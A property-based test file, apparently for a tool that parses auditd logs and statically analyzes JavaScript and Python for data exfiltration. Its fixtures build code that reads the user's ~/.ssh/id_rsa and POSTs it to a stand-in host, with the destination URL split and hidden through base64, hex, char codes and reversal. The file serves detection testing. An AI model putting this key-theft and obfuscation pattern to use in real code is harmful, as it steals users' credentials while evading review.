// Issue #16: property-based checks (fast-check, fixed seeds) of the decoders the host-log
// reader applies to auditd fields (hex values, SOCKADDR) and of constant folding in both
// front-ends: any decoding never throws, decode(encode(x)) gives x back, and a destination
// cut into random pieces, each hidden by a random technique and joined with `+`, folds
// back to the whole destination.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { decodeSockaddr, decodeValue } from "../../src/logs/parsers/auditd.js";
import { toBytes } from "../../src/logs/net.js";
import { analyze as analyzeJs } from "../analyzers/js/helpers.js";
import { analyze as analyzePy, sinkDestinations } from "../analyzers/python/helpers.js";

const hexOf = (bytes: number[] | Buffer): string => Buffer.from(bytes).toString("hex").toUpperCase();
const port = fc.integer({ min: 0, max: 65535 });
const portHex = (p: number): string => p.toString(16).toUpperCase().padStart(4, "0");

describe("property: auditd hex values and SOCKADDR", () => {
  it("never throw on any text, hex or not", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 80 }), fc.stringMatching(/^[0-9A-Fa-f]{0,80}$/)), fc.boolean(), (text, nul) => {
        decodeSockaddr(text);
        decodeValue(text, nul);
      }),
      { numRuns: 1000, seed: 1610 },
    );
  });

  it("a hex-encoded value decodes to its text; a quoted one to what is inside the quotes", () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 40, unit: "grapheme" }), (text) => {
        expect(decodeValue(hexOf(Buffer.from(text, "utf8")))).toBe(text);
        if (!text.includes('"')) expect(decodeValue(`"${text}"`)).toBe(text);
      }),
      { numRuns: 500, seed: 1611 },
    );
  });

  it("inet, inet6 and local socket addresses round-trip", () => {
    fc.assert(
      fc.property(fc.ipV4(), port, (ip, p) => {
        const hex = `0200${portHex(p)}${hexOf(ip.split(".").map(Number))}0000000000000000`;
        expect(decodeSockaddr(hex)).toEqual({ family: "inet", port: p, address: ip });
      }),
      { numRuns: 500, seed: 1612 },
    );
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 16, maxLength: 16 }), port, (bytes, p) => {
        const hex = `0A00${portHex(p)}00000000${hexOf(Buffer.from(bytes))}00000000`;
        const decoded = decodeSockaddr(hex)!;
        expect(decoded.family).toBe("inet6");
        expect(decoded.port).toBe(p);
        const mapped = bytes.slice(0, 10).every((b) => b === 0) && bytes[10] === 0xff && bytes[11] === 0xff;
        if (mapped) expect(decoded.address).toBe([...bytes.slice(12)].join("."));
        else expect([...toBytes(decoded.address!)!]).toEqual([...bytes]);
      }),
      { numRuns: 500, seed: 1613 },
    );
    const pathText = fc.string({ minLength: 1, maxLength: 60, unit: "grapheme" }).filter((s) => !s.includes("\0"));
    fc.assert(
      fc.property(pathText, fc.boolean(), fc.nat({ max: 8 }), (path, abstract, pad) => {
        const hex = `0100${abstract ? "00" : ""}${hexOf(Buffer.from(path))}${"00".repeat(pad)}`;
        expect(decodeSockaddr(hex)).toEqual({ family: "local", path: abstract ? `@${path}` : path });
      }),
      { numRuns: 500, seed: 1614 },
    );
  });
});

/** A destination: an https URL with a random host and path. */
const destination = fc
  .tuple(fc.stringMatching(/^[a-z][a-z0-9-]{0,12}$/), fc.string({ maxLength: 30, unit: fc.constantFrom(..."abcXYZ019-._~/?=&%:@!$'()*+,;", "é", "日", "😀", '"', "\\", " ", "\u2028", "#", "`", "{", "}") }))
  .map(([host, path]) => `https://${host}.example.invalid/${path}`);
/** Cut points of a string into 1 to 5 pieces (between code points: a lone surrogate has no UTF-8). */
const pieces = (text: string, cuts: number[]): string[] => {
  const chars = [...text];
  const at = [...new Set(cuts.map((c) => c % (chars.length + 1)))].sort((a, b) => a - b);
  const out: string[] = [];
  let from = 0;
  for (const c of [...at, chars.length]) {
    if (c > from) out.push(chars.slice(from, c).join(""));
    from = Math.max(from, c);
  }
  return out.length ? out : [text];
};
const b64 = (s: string): string => Buffer.from(s).toString("base64");
const hex = (s: string): string => Buffer.from(s).toString("hex");
const codes = (s: string): string => [...s].map((c) => c.codePointAt(0)).join(", ");
const reversed = (s: string): string => [...s].reverse().join("");

const JS_HIDE: Record<string, (s: string) => string> = {
  literal: (s) => JSON.stringify(s),
  template: (s) => `\`\${${JSON.stringify(s)}}\``,
  fromCharCode: (s) => `String.fromCodePoint(${codes(s)})`,
  fromCharCodeUnits: (s) => `String.fromCharCode(${[...Array(s.length).keys()].map((i) => s.charCodeAt(i)).join(", ")})`,
  base64: (s) => `Buffer.from('${b64(s)}', 'base64').toString()`,
  // atob gives one character per byte (Latin-1), as in Node and browsers.
  atob: (s) => ([...s].every((c) => c.charCodeAt(0) < 256) ? `atob('${Buffer.from(s, "latin1").toString("base64")}')` : JSON.stringify(s)),
  hex: (s) => `Buffer.from('${hex(s)}', 'hex').toString('utf8')`,
  // split('') cuts UTF-16 code units, so the literal is reversed unit by unit
  reverse: (s) => `${JSON.stringify(s.split("").reverse().join(""))}.split('').reverse().join('')`,
};
const PY_HIDE: Record<string, (s: string) => string> = {
  literal: (s) => JSON.stringify(s),
  b64decode: (s) => `base64.b64decode("${b64(s)}").decode()`,
  fromhex: (s) => `bytes.fromhex("${hex(s)}").decode()`,
  chr: (s) => `"".join(map(chr, [${codes(s)}]))`,
  slice: (s) => `${JSON.stringify(reversed(s))}[::-1]`,
  join: (s) => `"".join([${[...s].map((c) => JSON.stringify(c)).join(", ")}])`,
};

const header = "const fs = require('fs'); const os = require('os'); const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n";

describe("property: folding a destination hidden piece by piece", () => {
  const hidden = (techniques: Record<string, (s: string) => string>) =>
    fc.tuple(destination, fc.array(fc.nat(), { maxLength: 4 }), fc.array(fc.constantFrom(...Object.keys(techniques)), { minLength: 5, maxLength: 5 })).map(([url, cuts, picks]) => {
      const parts = pieces(url, cuts);
      return { url, expression: parts.map((p, i) => techniques[picks[i]!]!(p)).join(" + ") };
    });

  it("JavaScript: the fetch destination folds back to the whole URL", async () => {
    await fc.assert(
      fc.asyncProperty(hidden(JS_HIDE), async ({ url, expression }) => {
        const facts = await analyzeJs({ "index.js": `${header}fetch(${expression}, { method: 'POST', body: key });\n` });
        expect(facts.flows.map((f) => f.sink.destination), expression).toEqual([url]);
      }),
      { numRuns: 150, seed: 1615 },
    );
  }, 120_000);

  it("Python: the requests.post destination folds back to the whole URL", async () => {
    await fc.assert(
      fc.asyncProperty(hidden(PY_HIDE), async ({ url, expression }) => {
        const facts = await analyzePy({ "pkg/__init__.py": `import requests, base64\nrequests.post(${expression}, data="x")\n` });
        expect(sinkDestinations(facts), expression).toEqual([url]);
      }),
      { numRuns: 150, seed: 1616 },
    );
  }, 120_000);
});
